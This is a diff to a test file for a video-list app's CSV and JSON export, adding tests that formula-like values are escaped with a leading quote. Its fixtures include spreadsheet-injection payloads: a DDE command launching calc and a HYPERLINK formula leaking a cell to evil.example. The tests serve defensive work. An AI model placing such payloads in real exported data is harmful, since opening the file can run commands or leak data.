@@ -265,8 +265,8 @@ describe("export", () => {
       "fields.has_code": "true",
       "fields.score": "4.5",
     });
-    // A spreadsheet formula in the data is exported as the data, unaltered.
-    expect(rich.channel_title).toBe("=cmd|' /C calc'!A0");
+    // A spreadsheet formula in the data is exported behind a ' so a spreadsheet shows it as text.
+    expect(rich.channel_title).toBe("'=cmd|' /C calc'!A0");
     const padded = parsed.data.find((row) => row.video_id === ytId(1))!;
     expect(padded).toMatchObject({ title: "  padded  ", error: "Video unavailable", "fields.level": "" });
   });
@@ -310,5 +310,80 @@ describe("export", () => {
       invalid: [],
     });
     expect(await youtubeIds(fresh)).toEqual(await youtubeIds(listId));
+  });
+});
+
+describe("formula-safe CSV export", () => {
+  const fields = [
+    { key: "summary", label: "Summary", type: "text" },
+    { key: "speakers", label: "Speakers", type: "tags" },
+    { key: "delta", label: "Delta", type: "number" },
+  ];
+  const HOSTILE = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "+SUM(1,1)",
+    "-2+3",
+    "@cmd",
+    "\tTabbed",
+    "\rReturn",
+  ];
+  // A real YouTube id may start with "-": the guard must not cost that video its way back in.
+  const DASH_ID = "-dashFirst1";
+
+  it("guards every hostile title, tag and AI value, JSON keeps them as they are, and both files re-import as the same videos", async () => {
+    const listId = (await createList(token, { name: "Hostile", fields })).id;
+    const ids = [DASH_ID, ...HOSTILE.map((_, i) => ytId(500 + i))];
+    const added = await addVideos(token, listId, ids);
+    await setVideoColumns(
+      added.map((video, i) => {
+        const text = HOSTILE[i % HOSTILE.length] as string;
+        return {
+          id: video.id,
+          set: {
+            status: "completed",
+            title: text,
+            channel_title: `${text} channel`,
+            description: `${text}\nsecond line`,
+            tags: [text, "plain"],
+            fields: { summary: text, speakers: [text], delta: -4 },
+          },
+        };
+      }),
+    );
+
+    const csv = await (await call(`/api/lists/${listId}/videos/export?format=csv`, { token })).text();
+    const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
+    expect(parsed.errors).toEqual([]);
+    expect(parsed.data).toHaveLength(ids.length);
+    for (const row of parsed.data) {
+      for (const [column, cell] of Object.entries(row)) {
+        // No text cell a spreadsheet would evaluate: each starts with the guard or with something
+        // harmless (a negative number is a value, not a formula).
+        const formulaLike = /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
+        expect(formulaLike, `${column}: ${JSON.stringify(cell)}`).toBe(false);
+      }
+      expect(row.title).toMatch(/^'/);
+      expect(row["fields.summary"]).toBe(row.title);
+      expect(row["fields.delta"]).toBe("-4");
+    }
+    expect(parsed.data.find((row) => row.url?.endsWith(DASH_ID))?.video_id).toBe(`'${DASH_ID}`);
+
+    const json: Video[] = await (await call(`/api/lists/${listId}/videos/export?format=json`, { token })).json();
+    expect(json.map((video) => video.title).sort()).toEqual(added.map((_, i) => HOSTILE[i % HOSTILE.length]).sort());
+
+    // Back into the same list: nothing new. Into a fresh list, by the video_id column alone: every video.
+    expect(await imported(await importCsv(token, listId, csv))).toEqual({
+      added: 0,
+      duplicates: ids.length,
+      invalid: [],
+    });
+    const idOnly = Papa.unparse(parsed.data.map((row) => ({ video_id: row.video_id, title: row.title })));
+    const fresh = await newList("Hostile copy");
+    expect(await imported(await importCsv(token, fresh, idOnly))).toEqual({
+      added: ids.length,
+      duplicates: 0,
+      invalid: [],
+    });
+    expect(await youtubeIds(fresh)).toEqual([...ids].sort());
   });
 });
